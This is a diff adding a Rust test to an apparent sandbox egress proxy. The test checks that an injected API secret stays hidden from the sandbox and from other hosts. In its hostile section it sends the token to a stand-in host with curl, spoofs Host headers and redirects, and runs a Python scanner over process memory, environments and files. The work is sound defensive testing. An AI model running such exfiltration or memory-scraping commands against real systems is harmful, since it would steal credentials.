@@ -382,3 +382,140 @@ fn gvisor_egress_through_the_same_policy() {
     let r = srv.api("DELETE", &format!("/sandboxes/{}", sb.id), Value::Null);
     assert_eq!(r.status, 204);
 }
+
+/// Secrets through the API in real sandboxes: a rule puts a secret into requests for its
+/// host, and the value is nowhere the sandbox can look (env, files, its processes' memory,
+/// the upstream's echo), nor sent to any other host, whatever the sandbox tries.
+#[test]
+fn secrets_at_egress_in_a_sandbox() {
+    const VALUE: &str = "sk-test-51c0ffee0ddba11";
+    let net = fakenet::Internet::start(None);
+    let dir = tempfile::tempdir().unwrap();
+    let ca = dir.path().join("fake-internet-ca.pem");
+    std::fs::write(&ca, &net.cert_pem).unwrap();
+    let mut args = net_args(&net);
+    args.extend(["--egress-extra-ca".into(), ca.display().to_string()]);
+    let Some(srv) = Server::start("secrets_at_egress_in_a_sandbox", &args) else { return };
+    let r = srv.api("POST", "/secrets", json!({"name": "Upstream-Token", "value": VALUE}));
+    assert_eq!(r.status, 201, "{}", r.text());
+    assert!(!r.text().contains(VALUE), "a response carried the value");
+    assert_eq!(r.json()["name"], "upstream-token");
+    // The database holds it sealed only.
+    let db = std::fs::read(srv.data.path().join("ringfence.db")).unwrap_or_default();
+    let wal = std::fs::read(srv.data.path().join("ringfence.db-wal")).unwrap_or_default();
+    assert!(![db, wal].concat().windows(VALUE.len()).any(|w| w == VALUE.as_bytes()));
+
+    let rules = json!({"www.allowed.test": [
+        {"transform": {"headers": {"Authorization": "Bearer ${e2b.secrets.upstream-token}"}}}
+    ]});
+    let sb = srv.create(json!({
+        "templateID": "base",
+        "envVars": {"TOKEN": "${e2b.secrets.upstream-token}"},
+        "network": {"rules": rules}
+    }));
+    // The sandbox's own trust store lists its CA: plain curl (no --cacert) works for the
+    // terminated host; the fake internet's CA is not in it, so a passed-through host fails
+    // verification unless the test adds that CA (the real internet's CAs are in the bundle).
+    let (out, code) = srv.run(&sb, "curl -sS -m 10 https://www.allowed.test/headers");
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains(&"*".repeat(VALUE.len())) && !out.contains(VALUE), "{out}");
+    let seen = |addr: &str| {
+        net.seen
+            .lock()
+            .unwrap()
+            .iter()
+            .filter(|(a, _)| a == addr)
+            .map(|(_, h)| h.clone())
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    assert!(seen("203.0.113.10:443").contains(&format!("Authorization: Bearer {VALUE}")));
+    let (out, code) = srv.run(&sb, "python3 -c \"import urllib.request as u; print(u.urlopen('https://www.allowed.test/headers').read().decode())\"");
+    assert_eq!(code, 0, "python's default trust: {out}");
+    assert!(!out.contains(VALUE), "{out}");
+
+    // Hostile: its env var holds the placeholder; sent to another host, it stays that.
+    let cert = net.cert_pem.clone();
+    let (out, _) = srv.run(
+        &sb,
+        &format!(
+            "cat > /tmp/inet.pem <<'EOF'\n{cert}EOF\n\
+             echo env=$TOKEN; \
+             curl -sS -m 10 --cacert /tmp/inet.pem -H \"X-Key: $TOKEN\" https://other.test/headers; \
+             curl -sS -m 10 -H 'Host: other.test' https://www.allowed.test/headers; \
+             curl -sS -m 10 --resolve www.allowed.test:443:203.0.113.20 https://www.allowed.test/headers; \
+             curl -sS -m 10 -L --cacert /tmp/inet.pem -H \"X-Key: $TOKEN\" https://www.allowed.test/redirect/other.test"
+        ),
+    );
+    assert!(out.contains("env=${e2b.secrets.upstream-token}"), "{out}");
+    assert!(out.contains("X-Key: ${e2b.secrets.upstream-token}"), "{out}");
+    assert!(out.contains("differs from the TLS server name"), "{out}");
+    assert!(!out.contains(VALUE), "{out}");
+    assert!(!seen("203.0.113.20:443").contains(VALUE), "another host got the value");
+
+    // Nowhere inside: not in any process's environment or memory, not in its files.
+    let scan = r#"
+import os, re
+v = os.environ["NEEDLE"].encode()[::-1]
+hits = []
+# Not this process: it holds the needle to search with.
+for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+    try:
+        if v in open(f"/proc/{pid}/environ", "rb").read():
+            hits.append(f"environ {pid}")
+        mem = open(f"/proc/{pid}/mem", "rb", 0)
+        for line in open(f"/proc/{pid}/maps"):
+            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
+            if not m:
+                continue
+            a, b = int(m.group(1), 16), int(m.group(2), 16)
+            if b - a > 1 << 30:
+                continue
+            try:
+                mem.seek(a)
+                if v in mem.read(b - a):
+                    hits.append(f"memory {pid} {line.strip()}")
+            except OSError:
+                pass
+    except OSError:
+        pass
+for root in ["/etc", "/tmp", "/home", "/root", "/usr/local", "/var"]:
+    for d, _, files in os.walk(root):
+        for f in files:
+            try:
+                if v in open(os.path.join(d, f), "rb").read():
+                    hits.append(os.path.join(d, f))
+            except OSError:
+                pass
+print("hits:", hits)
+"#;
+    // The needle goes in reversed, so the scanner's own memory never holds it forwards.
+    let reversed: String = VALUE.chars().rev().collect();
+    let (out, code) =
+        srv.run(&sb, &format!("NEEDLE='{reversed}' python3 -c '{}'", scan.replace('\'', "\"")));
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains("hits: []"), "{out}");
+
+    // The audit trail names the rule and the secret, never the value.
+    let recs = srv.egress(&sb, |r| r.iter().any(|x| !x["detail"]["secrets"].is_null()));
+    let text = serde_json::to_string(&recs).unwrap();
+    assert!(!text.contains(VALUE));
+    assert!(
+        recs.iter().any(|x| x["detail"]["rule"] == "www.allowed.test"
+            && x["detail"]["secrets"] == json!(["upstream-token"])),
+        "{recs:#?}"
+    );
+    // Destroyed: its host's requests are refused rather than sent without it.
+    let r = srv.api("DELETE", "/secrets/upstream-token", Value::Null);
+    assert_eq!(r.status, 204, "{}", r.text());
+    let (out, _) = srv.run(&sb, "curl -sS -m 10 https://www.allowed.test/headers");
+    assert!(out.contains("does not exist"), "{out}");
+    assert!(!srv.log().contains(VALUE), "the server's log has the value");
+    let r = http(srv.port, "GET", "/audit?limit=1000", &[("X-API-Key", &srv.key)], b"");
+    assert_eq!(r.status, 200, "{}", r.text());
+    let text = r.text();
+    assert!(!text.contains(VALUE), "an audit record has the value");
+    for action in ["secret.create", "secret.destroy"] {
+        assert!(text.contains(action), "no {action} record: {text}");
+    }
+}
